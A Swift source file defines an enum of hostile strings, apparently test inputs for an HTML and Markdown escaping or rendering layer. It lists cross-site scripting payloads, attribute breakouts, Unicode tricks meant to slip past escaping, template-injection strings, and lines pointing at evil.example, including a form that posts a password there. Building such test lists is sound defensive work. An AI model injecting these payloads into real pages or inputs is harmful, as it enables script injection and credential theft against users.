/// Texts that want to be more than text: own work, one idea each.
enum HostileTexts {
    static let all = elements + attributes + accents + templates + markdown + unicode

    private static let elements = [
        "<script>alert(1)</script>", "</p></blockquote><script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "</title><script>alert(1)</script>", "</svg><img src=x onerror=alert(1)>", "</style><script>alert(1)</script>",
        "<style>body{display:none}</style>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)>", "<embed src=data:text/html,x>", "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<link rel=stylesheet href=//evil.example/x>",
        "<form action=https://evil.example/><input name=password>", "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>", "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
        "<!-- <script>alert(1)</script>", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?><x>", "<a href=javascript:alert(1)>here</a>", "<marquee onstart=alert(1)>", "<", "<<",
        "<a",
        "</", "<!", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x&#62;", "&#x3C;img src=x&#x3e;",
        "&amp;lt;b&gt;",
    ]

    private static let attributes = [
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><img src=x onerror=alert(1)>",
        "'><svg onload=alert(1)>",
        "\" autofocus onfocus=alert(1) x=\"", "` onclick=alert(1) `", "en\" onclick=\"alert(1)",
        "x\" style=\"color:red",
        "\" tabindex=1 accesskey=x onclick=alert(1) \"", "&quot; onclick=alert(1) &quot;", "\\\" onclick=alert(1) \\\"",
    ]

    /// Whoever escapes whole characters misses a quotation mark that carries an accent, or stands behind a sign that
    /// joins with what follows.
    private static let accents = [
        "x\"\u{301}/onclick=alert(1)//", "x'\u{308} onclick=alert(1) ", "<\u{338}script>",
        "\"\u{200D} onclick=alert(1)",
        "\u{600}\" onclick=alert(1) ", "\u{600}<img src=x onerror=alert(1)>", "\"\u{FE0F}><script>alert(1)</script>",
        ">\u{20E0}<\u{20E0}b>", "&\u{301}lt;b>",
    ]

    private static let templates = [
        "{{title}}", "{{{title}}}", "{{&title}}", "{{#quotes}}{{/quotes}}", "{{> page}}", "{{% CONTENT_TYPE: TEXT }}",
        "{{=<% %>=}}", "{{! gone }}", "\\(report)", "${7*7}", "%@%n%s",
    ]

    private static let markdown = [
        "[here](javascript:alert(1))", "![x](https://evil.example/pixel)", "[x]: https://evil.example 'y'",
        "# Headline",
        "- an item", "+ an item", "* an item", "1. an item", "12) an item", "> quoted", "---", "===", "***", "~~~",
        "```\ncode\n```", "`code`", "**bold** __bold__ _x_ *y*", "~~gone~~", "a | b | c", "a \\| b", "trailing \\",
        "<https://evil.example/>", "see https://evil.example/ now", "www.evil.example", "WWW.evil.example",
        "line\n\n# Headline\n\n- item", "line\r\n| a | b |\r\n|---|---|", "$x^2$ $$y$$", "@everybody #1 !2",
        "[^1]: note",
        "- [ ] done", "    indented code", "<details>", "a\n===", "](https://evil.example/)", "`",
    ]

    private static let unicode = [
        "\u{202E}gnp.exe", "\u{202A}\u{202B}\u{202D}x\u{202C}", "\u{2066}x\u{2067}y\u{2068}z\u{2069}", "\u{61C}x",
        "\u{0}\u{1}\u{8}\u{1B}[31mred",
        "a\u{7F}\u{80}\u{9B}31m", "\u{FEFF}x", "\u{AD}so\u{AD}ft", "x\u{2028}y\u{2029}z", "\u{FFFE}\u{FFFF}",
        "\u{E0041}\u{E0042}",
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30A}\u{30B}\u{30C}",
        "\u{B}\u{C}\u{85}\u{3000}",
        "", " ", "שלום \u{202E}עולם", "مرحبا\u{200F}", "👩\u{200D}👩\u{200D}👧", "＜script＞alert(1)＜/script＞",
        "\u{2060}\u{180E}\u{200B}",
    ]
}
